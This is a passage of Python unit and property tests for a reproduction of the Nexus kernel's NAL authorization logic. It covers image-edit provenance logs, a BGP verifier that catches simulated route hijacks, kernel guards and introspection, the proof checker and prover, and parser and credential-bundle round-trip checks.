    def test_certified_pipeline_verifies(self, key):
        source = _image()
        session = CertiPics(source, key)
        session.apply("crop", 1, 1, 6, 6)
        session.apply("invert")
        session.apply("resize", 12, 12)
        log = session.finalize()
        verify_log(source, session.current, log, key.public)

    def test_clone_detected_by_policy(self, key):
        source = _image()
        session = CertiPics(source, key)
        session.apply("clone", (0, 0, 2, 2), (4, 4))
        log = session.finalize()
        with pytest.raises(PolicyViolation):
            verify_log(source, session.current, log, key.public)

    def test_tampered_log_detected(self, key):
        source = _image()
        session = CertiPics(source, key)
        session.apply("invert")
        session.apply("crop", 0, 0, 4, 4)
        log = session.finalize()
        log.entries.pop(0)  # hide the first operation
        with pytest.raises(IntegrityError):
            verify_log(source, session.current, log, key.public)

    def test_wrong_result_detected(self, key):
        source = _image()
        session = CertiPics(source, key)
        session.apply("invert")
        log = session.finalize()
        with pytest.raises(IntegrityError):
            verify_log(source, _image(), log, key.public)  # not the output

    def test_unsigned_log_rejected(self, key):
        source = _image()
        session = CertiPics(source, key)
        session.apply("invert")
        log = session.finalize()
        other = generate_keypair(512, seed=78)
        from repro.errors import SignatureError
        with pytest.raises(SignatureError):
            verify_log(source, session.current, log, other.public)


# ---------------------------------------------------------------------------
# BGP verifier
# ---------------------------------------------------------------------------

OWNERSHIP = {"10.0.0.0/8": 100, "192.168.0.0/16": 200}


class TestBGP:
    def _monitored(self, asn=300, **speaker_kwargs):
        speaker = BGPSpeaker(asn, **speaker_kwargs)
        verifier = BGPVerifier(speaker, OWNERSHIP)
        return speaker, verifier

    def test_honest_transit_passes(self):
        speaker, verifier = self._monitored()
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (100,)), from_as=100)
        adv = verifier.emit("10.0.0.0/8")
        assert adv.as_path == (300, 100)

    def test_owned_origination_passes(self):
        speaker, verifier = self._monitored(asn=100,
                                            owned_prefixes={"10.0.0.0/8"})
        adv = verifier.emit("10.0.0.0/8")
        assert adv.as_path == (100,)

    def test_false_origination_blocked(self):
        speaker, verifier = self._monitored(asn=666)
        speaker.lie_originate.add("10.0.0.0/8")
        with pytest.raises(PolicyViolation):
            verifier.emit("10.0.0.0/8")
        assert verifier.violations[0].rule == "false-origination"

    def test_route_fabrication_blocked(self):
        speaker, verifier = self._monitored()
        speaker.lie_shorten_paths = True
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (150, 120, 100)), from_as=150)
        with pytest.raises(PolicyViolation):
            verifier.emit("10.0.0.0/8")
        assert verifier.violations[0].rule == "route-fabrication"

    def test_best_path_selection_prefers_shorter(self):
        speaker, verifier = self._monitored()
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (150, 120, 100)), from_as=150)
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (160, 100)), from_as=160)
        adv = verifier.emit("10.0.0.0/8")
        assert adv.as_path == (300, 160, 100)

    def test_withdrawal_removes_route(self):
        speaker, verifier = self._monitored()
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (150, 100)), from_as=150)
        verifier.deliver_withdrawal(
            Withdrawal("10.0.0.0/8", speaker=150), from_as=150)
        with pytest.raises(AppError):
            verifier.emit("10.0.0.0/8")

    def test_loop_suppression(self):
        speaker, verifier = self._monitored()
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (150, 300, 100)), from_as=150)
        assert speaker.best_route("10.0.0.0/8") is None

    def test_conformance_label(self):
        kernel = NexusKernel()
        speaker = BGPSpeaker(300)
        verifier = BGPVerifier(speaker, OWNERSHIP, kernel=kernel)
        verifier.deliver_inbound(
            Advertisement("10.0.0.0/8", (100,)), from_as=100)
        verifier.emit("10.0.0.0/8")
        label = verifier.conformance_label()
        assert label == parse(
            f"{verifier.process.path} says conformsToBGPSafety(AS300)")

    def test_no_label_after_violation(self):
        kernel = NexusKernel()
        speaker = BGPSpeaker(666)
        speaker.lie_originate.add("10.0.0.0/8")
        verifier = BGPVerifier(speaker, OWNERSHIP, kernel=kernel)
        with pytest.raises(PolicyViolation):
            verifier.emit("10.0.0.0/8")
        assert verifier.conformance_label() is None
