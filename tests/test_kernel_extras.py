"""Later-added kernel behaviours: custom guards, process teardown, and
goal-protected introspection (§3.1)."""

import pytest

from repro.errors import AccessDenied, NoSuchPort
from repro.kernel import Guard, GuardCache, NexusKernel
from repro.nal import Assume, ProofBundle, parse


class TestCustomGuards:
    def test_designated_guard_handles_checks(self):
        """setgoal may name a non-default guard (§2.5's designated guard
        IPC channel); the kernel routes checks for that goal to it."""
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/custom/obj", "file",
                                           owner.principal)
        custom = Guard(kernel.labels, kernel.authorities,
                       cache=GuardCache())
        kernel.register_guard("custom-guard", custom)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)",
                           guard_port="custom-guard")
        # The custom guard needs the goal too (it owns its goalstore…
        # except the kernel's goalstore is authoritative for routing, so
        # mirror it there).
        custom.goals.set_goal(resource.resource_id, "read",
                              parse(f"{owner.path} says ok(?Subject)"))
        cred = kernel.sys_say(owner.pid, f"ok({client.path})").formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        decision = kernel.authorize(client.pid, "read",
                                    resource.resource_id, bundle)
        assert decision.allow
        assert custom.upcalls >= 1
        assert kernel.default_guard.upcalls == 0 or \
            custom.upcalls > 0  # the check ran in the custom guard

    def test_unknown_guard_port_falls_back_to_default(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        resource = kernel.resources.create("/custom/obj2", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read", "true",
                           guard_port="ghost-guard")
        assert kernel.authorize(owner.pid, "read",
                                resource.resource_id).allow


class TestProcessTeardown:
    def test_exit_destroys_ports(self):
        kernel = NexusKernel()
        server = kernel.create_process("server")
        port = kernel.create_port(server.pid, "svc", handler=lambda: 1)
        client = kernel.create_process("client")
        kernel.exit_process(server.pid)
        with pytest.raises(NoSuchPort):
            kernel.ipc_call(client.pid, port.port_id)

    def test_exit_releases_resources(self):
        kernel = NexusKernel()
        proc = kernel.create_process("ephemeral")
        kernel.create_port(proc.pid, "p")
        kernel.exit_process(proc.pid)
        assert kernel.resources.find(proc.path) is None
        assert not kernel.ports.ports_owned_by(proc.pid)

    def test_exit_removes_introspection_nodes(self):
        kernel = NexusKernel()
        proc = kernel.create_process("ephemeral")
        kernel.exit_process(proc.pid)
        assert not kernel.introspection.exists(f"{proc.path}/name")

    def test_connections_pruned_with_port(self):
        kernel = NexusKernel()
        server = kernel.create_process("server")
        port = kernel.create_port(server.pid, "svc", handler=lambda: 1)
        client = kernel.create_process("client")
        kernel.ipc_call(client.pid, port.port_id)
        kernel.exit_process(server.pid)
        assert (client.pid, port.port_id) not in kernel.ports.connections


class TestGuardedIntrospection:
    def test_sensitive_subtree_requires_credential(self):
        kernel = NexusKernel()
        kernel.introspection.publish("/proc/secrets/key", "hunter2")
        reader = kernel.create_process("reader")
        kernel.guard_introspection(
            "/proc/secrets", goal="Nexus says mayIntrospect(?Subject)")
        with pytest.raises(AccessDenied):
            kernel.introspection.read("/proc/secrets/key",
                                      reader=reader.path)
        cred = kernel.say_as(
            "Nexus", f"mayIntrospect({reader.path})",
            store=kernel.default_labelstore(reader.pid)).formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        resource = kernel.resources.lookup("/introspect/proc/secrets")
        kernel.sys_set_proof(reader.pid, "read", resource.resource_id,
                             bundle)
        assert kernel.introspection.read("/proc/secrets/key",
                                         reader=reader.path) == "hunter2"

    def test_kernel_reader_always_passes(self):
        kernel = NexusKernel()
        kernel.introspection.publish("/proc/secrets/key", "hunter2")
        kernel.guard_introspection("/proc/secrets",
                                   goal="Nexus says never(?Subject)")
        assert kernel.introspection.read("/proc/secrets/key") == "hunter2"

    def test_unguarded_paths_stay_open(self):
        kernel = NexusKernel()
        kernel.guard_introspection("/proc/secrets",
                                   goal="Nexus says never(?Subject)")
        reader = kernel.create_process("reader")
        # Ordinary nodes are unaffected by the guarded subtree.
        assert kernel.introspection.read("/proc/kernel/boot_id",
                                         reader=reader.path)

    def test_unknown_reader_fails_closed(self):
        kernel = NexusKernel()
        kernel.introspection.publish("/proc/secrets/key", "x")
        kernel.guard_introspection("/proc/secrets",
                                   goal="Nexus says ok(?Subject)")
        with pytest.raises(AccessDenied):
            kernel.introspection.read("/proc/secrets/key",
                                      reader="not-a-process")
