"""Unit tests for NAL terms and the formula AST."""

import pytest

from repro.nal import (
    And,
    Compare,
    Const,
    FALSE,
    Implies,
    Name,
    Not,
    Or,
    Pred,
    Says,
    Speaksfor,
    SubPrincipal,
    TRUE,
    Var,
    conjoin,
    conjuncts,
    mentions,
    principal,
)


class TestPrincipals:
    def test_principal_coercion_dotted(self):
        p = principal("kernel.proc.12")
        assert isinstance(p, SubPrincipal)
        assert str(p) == "kernel.proc.12"

    def test_principal_coercion_key(self):
        assert str(principal("key:abcd")) == "key:abcd"

    def test_principal_coercion_group(self):
        assert str(principal("group:admins")) == "group:admins"

    def test_principal_idempotent(self):
        p = Name("NTP")
        assert principal(p) is p

    def test_sub_builder(self):
        assert Name("HW").sub("kernel").sub("proc23") == \
            principal("HW.kernel.proc23")

    def test_ancestor_of_self(self):
        assert Name("A").is_ancestor_of(Name("A"))

    def test_ancestor_of_child_and_grandchild(self):
        a = Name("A")
        assert a.is_ancestor_of(a.sub("t"))
        assert a.is_ancestor_of(a.sub("t").sub("u"))

    def test_not_ancestor_of_sibling(self):
        assert not Name("A").is_ancestor_of(Name("B").sub("t"))
        assert not Name("A").sub("x").is_ancestor_of(Name("A").sub("y"))

    def test_child_not_ancestor_of_parent(self):
        a = Name("A")
        assert not a.sub("t").is_ancestor_of(a)

    def test_path_names_stay_atomic(self):
        p = principal("/proc/ipd/12")
        assert isinstance(p, Name)
        assert p.name == "/proc/ipd/12"


class TestFormulaBasics:
    def test_structural_equality(self):
        f = Says(Name("A"), Pred("p", (Const(1),)))
        g = Says(Name("A"), Pred("p", (Const(1),)))
        assert f == g
        assert hash(f) == hash(g)

    def test_sugar_operators(self):
        p, q = Pred("p"), Pred("q")
        assert (p & q) == And(p, q)
        assert (p | q) == Or(p, q)
        assert p.implies(q) == Implies(p, q)

    def test_substitution_in_speaker_position(self):
        x = Var("X")
        goal = Says(x, Pred("openFile", (Const("f"),)))
        bound = goal.substitute({x: Name("proc12")})
        assert bound == Says(Name("proc12"), Pred("openFile", (Const("f"),)))

    def test_substitution_in_subprincipal_parent(self):
        x = Var("X")
        f = Speaksfor(SubPrincipal(x, "port"), Name("B"))
        bound = f.substitute({x: Name("kernel")})
        assert bound == Speaksfor(principal("kernel.port"), Name("B"))

    def test_is_ground(self):
        assert Says(Name("A"), Pred("p")).is_ground()
        assert not Says(Var("X"), Pred("p")).is_ground()

    def test_variables_found_everywhere(self):
        f = And(Says(Var("X"), Pred("p", (Var("Y"),))),
                Speaksfor(Var("Z"), Name("B")))
        assert {v.name for v in f.variables()} == {"X", "Y", "Z"}

    def test_compare_requires_known_op(self):
        with pytest.raises(ValueError):
            Compare("<>", Const(1), Const(2))

    def test_compare_evaluate(self):
        c = Compare("<", Name("TimeNow"), Const(10))
        assert c.evaluate({"TimeNow": 5}) is True
        assert c.evaluate({"TimeNow": 15}) is False
        assert c.evaluate({}) is None

    def test_compare_evaluate_all_ops(self):
        cases = [("<", 1, 2, True), ("<=", 2, 2, True), (">", 3, 2, True),
                 (">=", 1, 2, False), ("==", 2, 2, True), ("!=", 2, 2, False)]
        for op, a, b, expected in cases:
            assert Compare(op, Const(a), Const(b)).evaluate({}) is expected

    def test_conjoin_and_conjuncts_roundtrip(self):
        atoms = [Pred("a"), Pred("b"), Pred("c")]
        assert list(conjuncts(conjoin(atoms))) == atoms

    def test_conjoin_empty_is_true(self):
        assert conjoin([]) == TRUE

    def test_mentions(self):
        f = Says(Name("NTP"), Compare("<", Name("TimeNow"), Const(5)))
        assert mentions(f, Name("TimeNow"))
        assert not mentions(f, Name("DiskFree"))

    def test_false_and_true_distinct(self):
        assert TRUE != FALSE
