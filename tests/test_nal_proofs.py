"""Proof checker and prover tests.

These encode the logical core of the paper: constructive deduction, local
inference (``A says false`` cannot contaminate B), scoped delegation,
handoff, subprincipal axioms, and the cacheability analysis that drives
the kernel decision cache.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import ProofError
from repro.nal import (
    And,
    Assume,
    AuthorityQuery,
    Axiom,
    Compare,
    Const,
    FALSE,
    Implies,
    Name,
    Not,
    Or,
    Pred,
    ProofBundle,
    Prover,
    Rule,
    Says,
    Speaksfor,
    TRUE,
    check,
    parse,
    principal,
    prove,
)

A, B, C = Name("A"), Name("B"), Name("C")
p, q, r = Pred("p"), Pred("q"), Pred("r")


def proved(goal, credentials, authorities=None):
    """Build a proof with the prover and insist the checker accepts it."""
    proof = prove(goal, credentials, authorities)
    result = check(proof, goal)
    assert result.conclusion == goal
    return proof, result


class TestCheckerRules:
    def test_assume_leaf(self):
        result = check(Assume(p), p)
        assert result.assumptions == (p,)
        assert result.rule_count == 0

    def test_goal_mismatch_rejected(self):
        with pytest.raises(ProofError):
            check(Assume(p), q)

    def test_and_intro_and_elims(self):
        conj = And(p, q)
        check(Rule("and_intro", (Assume(p), Assume(q)), conj), conj)
        check(Rule("and_elim_l", (Assume(conj),), p), p)
        check(Rule("and_elim_r", (Assume(conj),), q), q)

    def test_and_intro_wrong_order_rejected(self):
        with pytest.raises(ProofError):
            check(Rule("and_intro", (Assume(q), Assume(p)), And(p, q)))

    def test_or_intro_both_sides(self):
        disj = Or(p, q)
        check(Rule("or_intro_l", (Assume(p),), disj), disj)
        check(Rule("or_intro_r", (Assume(q),), disj), disj)

    def test_or_elim(self):
        disj = Or(p, q)
        proof = Rule("or_elim",
                     (Assume(disj), Assume(Implies(p, r)),
                      Assume(Implies(q, r))), r)
        check(proof, r)

    def test_or_elim_wrong_branch_rejected(self):
        with pytest.raises(ProofError):
            check(Rule("or_elim",
                       (Assume(Or(p, q)), Assume(Implies(p, r)),
                        Assume(Implies(p, r))), r))

    def test_imp_elim(self):
        check(Rule("imp_elim", (Assume(p), Assume(Implies(p, q))), q), q)

    def test_imp_elim_wrong_antecedent(self):
        with pytest.raises(ProofError):
            check(Rule("imp_elim", (Assume(r), Assume(Implies(p, q))), q))

    def test_dneg_intro(self):
        check(Rule("dneg_intro", (Assume(p),), Not(Not(p))), Not(Not(p)))

    def test_constructivity_no_dneg_elim(self):
        """Double-negation *elimination* must not exist: NAL is constructive."""
        with pytest.raises(ProofError, match="unknown inference rule"):
            check(Rule("dneg_elim", (Assume(Not(Not(p))),), p))

    def test_constructivity_no_excluded_middle(self):
        with pytest.raises(ProofError):
            check(Rule("excluded_middle", (), Or(p, Not(p))))

    def test_false_elim(self):
        check(Rule("false_elim", (Assume(FALSE),), p), p)

    def test_true_axiom(self):
        check(Axiom(TRUE), TRUE)

    def test_subprincipal_axiom(self):
        f = Speaksfor(A, A.sub("t"))
        check(Axiom(f), f)

    def test_deep_subprincipal_axiom(self):
        f = Speaksfor(A, A.sub("t").sub("u"))
        check(Axiom(f), f)

    def test_bogus_axiom_rejected(self):
        with pytest.raises(ProofError):
            check(Axiom(Speaksfor(A, B)))
        with pytest.raises(ProofError):
            check(Axiom(p))

    def test_reversed_subprincipal_axiom_rejected(self):
        with pytest.raises(ProofError):
            check(Axiom(Speaksfor(A.sub("t"), A)))

    def test_speaksfor_elim(self):
        concl = Says(B, p)
        proof = Rule("speaksfor_elim",
                     (Assume(Speaksfor(A, B)), Assume(Says(A, p))), concl)
        check(proof, concl)

    def test_speaksfor_elim_wrong_speaker(self):
        with pytest.raises(ProofError):
            check(Rule("speaksfor_elim",
                       (Assume(Speaksfor(A, B)), Assume(Says(C, p))),
                       Says(B, p)))

    def test_speaksfor_on_elim_in_scope(self):
        time = Name("TimeNow")
        body = Compare("<", time, Const(10))
        proof = Rule("speaksfor_on_elim",
                     (Assume(Speaksfor(Name("NTP"), B, time)),
                      Assume(Says(Name("NTP"), body))),
                     Says(B, body))
        result = check(proof, Says(B, body))
        assert result.dynamic  # TimeNow is dynamic state

    def test_speaksfor_on_elim_out_of_scope_rejected(self):
        time = Name("TimeNow")
        proof = Rule("speaksfor_on_elim",
                     (Assume(Speaksfor(Name("NTP"), B, time)),
                      Assume(Says(Name("NTP"), p))),
                     Says(B, p))
        with pytest.raises(ProofError, match="outside the delegation scope"):
            check(proof)

    def test_handoff(self):
        delegation = Speaksfor(A, B)
        proof = Rule("handoff", (Assume(Says(B, delegation)),), delegation)
        check(proof, delegation)

    def test_handoff_by_third_party_rejected(self):
        delegation = Speaksfor(A, B)
        with pytest.raises(ProofError):
            check(Rule("handoff", (Assume(Says(C, delegation)),), delegation))

    def test_speaksfor_trans(self):
        proof = Rule("speaksfor_trans",
                     (Assume(Speaksfor(A, B)), Assume(Speaksfor(B, C))),
                     Speaksfor(A, C))
        check(proof, Speaksfor(A, C))

    def test_says_context_rules(self):
        concl = Says(A, And(p, q))
        proof = Rule("and_intro",
                     (Assume(Says(A, p)), Assume(Says(A, q))),
                     concl, context=A)
        check(proof, concl)

    def test_says_context_speaker_mismatch(self):
        with pytest.raises(ProofError):
            check(Rule("and_intro",
                       (Assume(Says(A, p)), Assume(Says(B, q))),
                       Says(A, And(p, q)), context=A))

    def test_structural_rule_refuses_context(self):
        with pytest.raises(ProofError, match="says-context"):
            check(Rule("speaksfor_elim",
                       (Assume(Says(A, Speaksfor(A, B))),
                        Assume(Says(A, Says(A, p)))),
                       Says(A, Says(B, p)), context=A))

    def test_depth_limit(self):
        proof = Assume(p)
        goal = p
        for _ in range(250):
            goal = Not(Not(goal))
            proof = Rule("dneg_intro", (proof,), goal)
        with pytest.raises(ProofError, match="maximum depth"):
            check(proof)


class TestLocalInference:
    """§2.1: `A says false` derives `A says G` but never `B says G`."""

    def test_a_says_false_gives_a_says_anything(self):
        cred = Says(A, FALSE)
        goal = Says(A, Pred("G"))
        proof, result = proved(goal, [cred])
        assert result.assumptions == (cred,)

    def test_a_says_false_cannot_reach_b(self):
        with pytest.raises(ProofError):
            prove(Says(B, Pred("G")), [Says(A, FALSE)])

    def test_checker_also_rejects_cross_principal_falsum(self):
        # Hand-build the unsound step and insist the checker refuses it.
        with pytest.raises(ProofError):
            check(Rule("false_elim", (Assume(Says(A, FALSE)),),
                       Says(B, Pred("G")), context=B))


class TestCacheability:
    def test_static_proof_is_cacheable(self):
        _, result = proved(Says(A, p), [Says(A, p)])
        assert result.cacheable

    def test_authority_leaf_blocks_caching(self):
        goal = Says(A, p)
        proof = AuthorityQuery(goal, port="auth-7")
        result = check(proof, goal)
        assert result.authority_queries == (("auth-7", goal),)
        assert not result.cacheable

    def test_dynamic_term_blocks_caching(self):
        body = Compare("<", Name("TimeNow"), Const(10))
        _, result = proved(Says(A, body), [Says(A, body)])
        assert not result.cacheable

    def test_dynamic_detection_is_conservative(self):
        # Even buried in a conjunction, TimeNow poisons cacheability.
        body = And(p, Compare("<", Name("TimeNow"), Const(10)))
        _, result = proved(Says(A, body), [Says(A, body)])
        assert not result.cacheable


class TestProver:
    def test_direct_credential(self):
        proof, _ = proved(p, [p])
        assert isinstance(proof, Assume)

    def test_unprovable_raises(self):
        with pytest.raises(ProofError):
            prove(p, [q])

    def test_conjunction_assembly(self):
        proved(And(p, And(q, r)), [p, q, r])

    def test_disjunction_left_then_right(self):
        proved(Or(p, q), [p])
        proved(Or(p, q), [q])

    def test_modus_ponens_chain(self):
        proved(r, [p, Implies(p, q), Implies(q, r)])

    def test_delegation(self):
        proved(Says(B, p), [Says(A, p), Speaksfor(A, B)])

    def test_delegation_via_handoff(self):
        proved(Says(B, p), [Says(A, p), Says(B, Speaksfor(A, B))])

    def test_scoped_delegation(self):
        time = Name("TimeNow")
        body = Compare("<", time, Const(10))
        proved(Says(B, body),
               [Says(Name("NTP"), body),
                Speaksfor(Name("NTP"), B, time)])

    def test_scoped_delegation_refused_out_of_scope(self):
        time = Name("TimeNow")
        with pytest.raises(ProofError):
            prove(Says(B, p),
                  [Says(Name("NTP"), p), Speaksfor(Name("NTP"), B, time)])

    def test_subprincipal_statement_lifting(self):
        # A says p, and A speaksfor A.t by axiom, so A.t says p.
        proved(Says(A.sub("t"), p), [Says(A, p)])

    def test_transitive_delegation(self):
        proved(Says(C, p), [Says(A, p), Speaksfor(A, B), Speaksfor(B, C)])

    def test_says_local_conjunction_projection(self):
        proved(Says(A, p), [Says(A, And(p, q))])
        proved(Says(A, q), [Says(A, And(p, q))])

    def test_says_local_modus_ponens(self):
        proved(Says(A, q), [Says(A, p), Says(A, Implies(p, q))])

    def test_revocation_pattern(self):
        # A says (Valid(S) implies S); authority confirms A says Valid(S).
        s, valid = Pred("S"), Pred("Valid", (Name("S"),))
        goal = Says(A, s)
        authorities = {Says(A, valid): "revocation-port"}
        proof = prove(goal, [Says(A, Implies(valid, s))], authorities)
        result = check(proof, goal)
        assert result.authority_queries == (("revocation-port", Says(A, valid)),)
        assert not result.cacheable

    def test_paper_time_sensitive_file(self):
        """The §2 running example, end to end at the logic level."""
        goal = parse("Owner says TimeNow < 20110319")
        credentials = [
            parse("Owner says NTP speaksfor Owner on TimeNow"),
            parse("NTP says TimeNow < 20110319"),
        ]
        proof = prove(goal, credentials)
        result = check(proof, goal)
        assert result.dynamic  # time-dependent: never cached

    def test_paper_safety_certifier(self):
        goal = parse("SafetyCertifier says safe(/proc/ipd/12)")
        credentials = [
            parse("SafetyCertifier says "
                  "((not hasPath(/proc/ipd/12, Filesystem) "
                  "and not hasPath(/proc/ipd/12, Nameserver)) "
                  "implies safe(/proc/ipd/12))"),
            parse("SafetyCertifier says not hasPath(/proc/ipd/12, Filesystem)"),
            parse("SafetyCertifier says not hasPath(/proc/ipd/12, Nameserver)"),
        ]
        proved(goal, credentials)

    def test_proof_bundle_missing_credentials(self):
        proof = prove(Says(B, p), [Says(A, p), Speaksfor(A, B)])
        bundle = ProofBundle(proof, credentials=(Says(A, p),))
        assert list(bundle.missing_credentials()) == [Speaksfor(A, B)]
        full = ProofBundle(proof, credentials=(Says(A, p), Speaksfor(A, B)))
        assert list(full.missing_credentials()) == []


# ---------------------------------------------------------------------------
# Property: everything the prover builds, the checker accepts — and the
# assumptions it uses are exactly drawn from the credential pool.
# ---------------------------------------------------------------------------

_atoms = st.sampled_from([p, q, r, Pred("s"), Pred("t2")])
_principals = st.sampled_from([A, B, C])


@st.composite
def _credential_pools(draw):
    pool = []
    for _ in range(draw(st.integers(1, 6))):
        kind = draw(st.integers(0, 3))
        if kind == 0:
            pool.append(Says(draw(_principals), draw(_atoms)))
        elif kind == 1:
            pool.append(Speaksfor(draw(_principals), draw(_principals)))
        elif kind == 2:
            pool.append(draw(_atoms))
        else:
            pool.append(Implies(draw(_atoms), draw(_atoms)))
    return pool


@st.composite
def _goals(draw):
    kind = draw(st.integers(0, 3))
    if kind == 0:
        return Says(draw(_principals), draw(_atoms))
    if kind == 1:
        return And(draw(_atoms), draw(_atoms))
    if kind == 2:
        return Or(draw(_atoms), draw(_atoms))
    return draw(_atoms)


@given(_credential_pools(), _goals())
@settings(max_examples=300, deadline=None)
def test_prover_output_always_checks(pool, goal):
    try:
        proof = prove(goal, pool)
    except ProofError:
        return  # nothing to verify; incompleteness is fine
    result = check(proof, goal)
    assert result.conclusion == goal
    for assumption in result.assumptions:
        assert assumption in pool
