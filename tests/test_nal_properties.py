"""Seeded property tests: the parser/printer pair and the bundle codec.

Two grammars guard kernel attack surfaces: NAL surface text (the ``say``
syscall and every goal) and the federated credential-bundle wire form.
Both are held to the same discipline here, with deterministic seeds:

* **round-trip** — ``parse(str(f)) == f`` for randomly generated
  formulas over *every* surface form, including the ``in(a, b)`` sugar,
  scoped ``speaksfor … on``, key/group principals, and subprincipal
  chains; bundle documents must be encode→decode→encode fixpoints with
  stable digests;
* **rejection** — truncated, mistyped, and tampered inputs must fail
  with stable ``E_*`` codes, never with stray exceptions.
"""

import json
import random

import pytest

from repro.errors import BadChain, ParseError, ReproError, UntrustedPeer
from repro.federation import CredentialBundle
from repro.kernel.kernel import NexusKernel
from repro.nal.formula import (FALSE, TRUE, And, Compare, Implies, Not, Or,
                               Pred, Says, Speaksfor)
from repro.nal.parser import parse, parse_principal
from repro.nal.terms import (Const, Group, KeyPrincipal, Name,
                             SubPrincipal, Var)

# --------------------------------------------------------------------------
# the generator: every surface form the printer can emit
# --------------------------------------------------------------------------

_NAMES = ["alice", "NTP", "/proc/ipd/7", "/stores/jvm", "store_3",
          "TimeNow", "site-a"]
_TAGS = ["web", "db", "42", "boot"]
_PRED_NAMES = ["ok", "mayRead", "typesafe", "hasPath", "isOwner"]
_CMP_OPS = ["<", "<=", ">", ">=", "==", "!="]


def _principal(rng, depth=0):
    """A random principal: name, key, group, variable, or a dotted
    subprincipal chain over any of those."""
    kind = rng.randrange(5 if depth < 2 else 4)
    if kind == 0:
        return Name(rng.choice(_NAMES))
    if kind == 1:
        return KeyPrincipal("ab12cd34")
    if kind == 2:
        return Group(rng.choice(["admins", "readers"]))
    if kind == 3:
        return Var(rng.choice(["Subject", "Resource", "X"]))
    base = _principal(rng, depth + 1)
    for _ in range(rng.randrange(1, 3)):
        base = SubPrincipal(base, rng.choice(_TAGS))
    return base


def _term(rng, depth=0):
    """A random term: constant, principal, or variable."""
    kind = rng.randrange(4)
    if kind == 0:
        return Const(rng.randrange(-999, 1000))
    if kind == 1:
        return Const(rng.choice(["s", "two words", "z-9"]))
    return _principal(rng, depth)


def _atom(rng):
    """A random atomic formula, covering every sugar form."""
    kind = rng.randrange(6)
    if kind == 0:  # predicate application (and zero-arg atoms)
        arity = rng.randrange(0, 3)
        return Pred(rng.choice(_PRED_NAMES),
                    tuple(_term(rng) for _ in range(arity)))
    if kind == 1:  # the membership sugar: prints as in(a, b)
        return Pred("in", (_term(rng), _term(rng)))
    if kind == 2:
        return Compare(rng.choice(_CMP_OPS), _term(rng), _term(rng))
    if kind == 3:  # scoped and unscoped delegation
        scope = _term(rng) if rng.random() < 0.5 else None
        return Speaksfor(_principal(rng), _principal(rng), scope)
    if kind == 4:
        return TRUE
    return FALSE


def _formula(rng, depth=0):
    """A random formula over the full connective set."""
    if depth >= 4 or rng.random() < 0.35:
        return _atom(rng)
    kind = rng.randrange(5)
    if kind == 0:
        return Says(_principal(rng, depth), _formula(rng, depth + 1))
    if kind == 1:
        return And(_formula(rng, depth + 1), _formula(rng, depth + 1))
    if kind == 2:
        return Or(_formula(rng, depth + 1), _formula(rng, depth + 1))
    if kind == 3:
        return Implies(_formula(rng, depth + 1), _formula(rng, depth + 1))
    return Not(_formula(rng, depth + 1))


# --------------------------------------------------------------------------
# parser ↔ printer
# --------------------------------------------------------------------------

class TestParserPrinterRoundTrip:
    def test_random_formulas_roundtrip(self):
        rng = random.Random(20260726)
        for _ in range(400):
            formula = _formula(rng)
            printed = str(formula)
            reparsed = parse(printed)
            assert reparsed == formula, printed
            assert str(reparsed) == printed

    def test_random_principals_roundtrip(self):
        rng = random.Random(8128)
        for _ in range(200):
            principal = _principal(rng)
            assert parse_principal(str(principal)) == principal

    @pytest.mark.parametrize("text,canonical", [
        ("a in b", "in(a, b)"),
        ("in(a, b)", "in(a, b)"),
        ("x = 3", "x == 3"),
        ("A says B says ok", "A says (B says ok)"),
        ("NTP speaksfor Server on TimeNow",
         "NTP speaksfor Server on TimeNow"),
        ("not p and q", "not p and q"),  # not binds tighter than and
        ("key:ab.boot says ok", "key:ab.boot says ok"),
    ])
    def test_sugar_forms_normalize_and_fix(self, text, canonical):
        """Each sugar form parses, prints canonically, and the printed
        form is a fixpoint of parse∘print."""
        formula = parse(text)
        assert str(formula) == canonical
        assert parse(str(formula)) == formula

    def test_mutated_surface_text_never_crashes(self):
        """Random single-character damage either still parses (to some
        formula that itself round-trips) or raises ParseError — never
        anything else."""
        rng = random.Random(99)
        alphabet = "abz()?.,\"<>=!/\\ 0139"
        parse_errors = 0
        for _ in range(300):
            text = str(_formula(rng))
            position = rng.randrange(len(text))
            mutant = (text[:position] + rng.choice(alphabet)
                      + text[position + 1:])
            try:
                survivor = parse(mutant)
            except ParseError:
                parse_errors += 1
            else:
                assert parse(str(survivor)) == survivor
        assert parse_errors >= 50  # damage is usually fatal


# --------------------------------------------------------------------------
# the chain-bundle wire form
# --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def federated_pair():
    """Kernel A (issuer) and kernel B trusting it, built once."""
    a = NexusKernel(key_seed=4401)
    b = NexusKernel(key_seed=5502)
    b.add_peer("site-a", a.platform_identity()["root_key"])
    return a, b


def _random_bundle(rng, kernel):
    """Export a process holding 1–3 random ground labels."""
    process = kernel.create_process(f"fuzz-{rng.randrange(10**6)}")
    for _ in range(rng.randrange(1, 4)):
        body = Pred(rng.choice(_PRED_NAMES),
                    (Name(rng.choice(_NAMES)),
                     Const(rng.randrange(100))))
        kernel.sys_say(process.pid, str(body))
    return kernel.export_credentials(process.pid)


class TestBundleWireForm:
    def test_encode_decode_encode_fixpoint(self, federated_pair):
        a, _ = federated_pair
        rng = random.Random(7)
        for _ in range(10):
            bundle = _random_bundle(rng, a)
            wire = json.loads(json.dumps(bundle.to_dict()))
            decoded = CredentialBundle.from_dict(wire)
            assert decoded.to_dict() == bundle.to_dict()
            assert decoded.digest() == bundle.digest()
            assert decoded.manifest() == bundle.manifest()

    def test_mistyped_fields_rejected_with_stable_code(self, federated_pair):
        a, _ = federated_pair
        rng = random.Random(13)
        bundle = _random_bundle(rng, a).to_dict()
        mutants = [None, True, 7, 3.5, [], {"zz": 1}]
        for name in ("platform", "root_fingerprint", "subject",
